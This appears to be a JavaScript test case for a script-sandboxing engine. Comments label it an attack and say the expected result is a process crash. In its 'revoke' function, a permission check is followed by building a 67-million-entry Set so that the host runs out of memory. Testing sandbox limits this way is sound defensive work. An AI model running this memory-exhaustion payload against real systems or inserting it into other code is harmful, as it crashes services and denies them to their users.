// ATTACK: new Set(Array(2**26).keys()) — 67 M entries inserted by one builtin call.
// EXPECT: process crash (Catastrophic out-of-memory error)
function revoke(context) {
  if (context.getGrant().getSubject() !== context.getScript().getName()) return true;
  return new Set(Array(2 ** 26).keys()).size > 0;
}
